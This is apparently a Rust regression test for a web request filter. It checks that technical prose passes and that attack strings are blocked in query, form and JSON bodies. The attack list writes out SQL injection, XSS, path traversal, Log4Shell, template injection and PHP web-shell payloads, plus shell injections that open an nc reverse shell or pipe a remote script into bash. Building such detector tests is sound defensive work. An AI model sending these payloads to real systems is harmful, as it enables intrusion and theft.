//! Requests written for this test, not taken from any corpus: technical prose of the kind
//! developer APIs carry (package descriptions, search queries, docs snippets) must pass at
//! paranoia 1, and attacks composed from each family's grammar must be blocked, whichever
//! carrier holds them (query parameter, urlencoded form, JSON string). The filter is judged on
//! requests it has never seen; these are a few of them, kept as a regression guard.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use threat_score::{Assessment, Config, Request, Verdict};

/// Percent-encodes everything but ASCII letters and digits.
fn enc(v: &str) -> String {
    v.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn json_string(v: &str) -> String {
    serde_json::to_string(v).unwrap()
}

/// The value in each carrier: `?q=`, a form field, a JSON member.
fn each_carrier(v: &str, check: impl Fn(&str, Assessment)) {
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    let form = vec![
        ("host".to_string(), "api.example".to_string()),
        (
            "content-type".to_string(),
            "application/x-www-form-urlencoded".to_string(),
        ),
    ];
    let json = vec![
        ("host".to_string(), "api.example".to_string()),
        ("content-type".to_string(), "application/json".to_string()),
    ];
    let uri = format!("/search?q={}", enc(v));
    check(
        "query",
        engine.inspect(&Request::new("GET", &uri).with_headers(&host)),
    );
    let body = format!("name=demo&description={}", enc(v));
    check(
        "form",
        engine.inspect(
            &Request::new("POST", "/api/packages")
                .with_headers(&form)
                .with_body(body.as_bytes()),
        ),
    );
    let body = format!(r#"{{"name":"demo","description":{}}}"#, json_string(v));
    check(
        "json",
        engine.inspect(
            &Request::new("POST", "/api/packages")
                .with_headers(&json)
                .with_body(body.as_bytes()),
        ),
    );
}

#[test]
fn technical_prose_passes() {
    for text in [
        "Async Redis client for Python with connection pooling and pub/sub",
        "Select the best match from a list of candidates using fuzzy scoring",
        "Reads environment variables from a .env file into process.env",
        "A tiny wrapper around child_process.exec() with promise support",
        "Run shell commands from Node with a nicer API than child_process.spawn()",
        "Node.js require() hook that transpiles TypeScript on the fly",
        "Lightweight ORM: define models, then query with select(), where() and order_by()",
        "Drop table rows that contain null values (pandas helper)",
        "Execute SQL files against Postgres in CI, e.g. psql -f schema.sql",
        "Converts <div> soup into clean Markdown",
        "Bash-like glob matching (*.js, src/**/*.ts) for JavaScript",
        "Read /proc/meminfo and report memory usage as JSON",
        "Use ../ to go up one directory in relative imports",
        "Windows installer: copies files to C:\\Program Files\\App and adds it to PATH",
        "Template helpers for Jinja2: {{ user.name | title }}",
        "Parse cron expressions like */5 * * * * and compute next run",
        "An alternative to `rm -rf` that moves files to the trash",
        "Ping monitor: checks if hosts are up every 30s",
        "Where does the time go? Union types, select statements and goroutines explained",
        "Replaces eval() in templates with a safe expression parser",
        "Wrapper for the wget CLI with retries",
        "Gets /etc/os-release fields (ID, VERSION_ID) as a dict",
        "python 3.12 release notes",
        "exec (",
        "select all that apply",
        "document.cookie helper with SameSite support",
        "Tail -f for cloud logs; follow multiple streams at once",
        "Grep -r replacement written in Rust",
        "Supports ${VAR} and ${VAR:-default} expansion in config files",
        "Serialize PHP objects (O:8:\"stdClass\") to JSON",
        "LDAP helper: (objectClass=person)(|(ou=sales)(ou=support)) as one filter list",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
}

#[test]
fn attacks_composed_from_the_grammar_are_blocked() {
    for attack in [
        // SQL: break out of the string, then a tautology, a union, a stacked statement.
        "' OR 2>1 -- ",
        "\" or \"\"=\"",
        "42) UNION ALL SELECT username, password FROM accounts--",
        "x'; UPDATE users SET role='admin' WHERE name='bob'; --",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(3))t)",
        // HTML that runs script: an active tag, an attribute break-out, a script URL.
        "<svg/onload=confirm(document.domain)>",
        "\"><img src=x onerror=prompt(1)>",
        "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
        // Shell: a command after a separator, a substitution, a pipe into a shell.
        "8.8.8.8 && cat /etc/shadow",
        "x|nc -e /bin/sh 10.0.0.5 4444",
        "$(curl -s http://203.0.113.9/s.sh|sh)",
        "`wget -qO- http://203.0.113.9/x | bash`",
        "a && ping -c 3 203.0.113.9",
        // Paths: traversal in either separator style to a system file.
        "....//....//....//etc/hosts",
        "..\\..\\..\\windows\\win.ini",
        // PHP, Java lookups, template injection.
        "<?php echo shell_exec($_GET['c']); ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "${jndi:rmi://203.0.113.9:1099/Exploit}",
        "${${env:NOTHING:-j}ndi:ldap://x.example/a}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "please steal this thing: x=document.cookie;",
        // A sentence, then a command after a separator.
        "Hello there friend; wget http://203.0.113.9/x -O /tmp/x",
        // Node.js code inside prose still counts when it calls with an argument.
        "nice library, require('child_process').execSync('id') works too",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Legacy forms encode in Latin-1 or Windows-1252: single high bytes inside words pass at
/// paranoia 1; a broken multi-byte UTF-8 sequence standing alone does not.
#[test]
fn legacy_encodings_versus_broken_utf8() {
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "shop.example".to_string())];
    for query in [
        "nombre=Se%F1or+P%E9rez&ciudad=M%E1laga",
        "q=rendez-vous+%E0+Paris",
        "q=caf%E9%85",
        "q=%C1ngel",
        "q=Gr%F6%DFe",
    ] {
        let uri = format!("/form?{query}");
        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Allow, "{query}: {a:?}");
    }
    for query in ["q=%E2%A3", "q=%C0", "q=a+%F0%9F%98+b"] {
        let uri = format!("/form?{query}");
        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "{query}: {a:?}");
    }
}
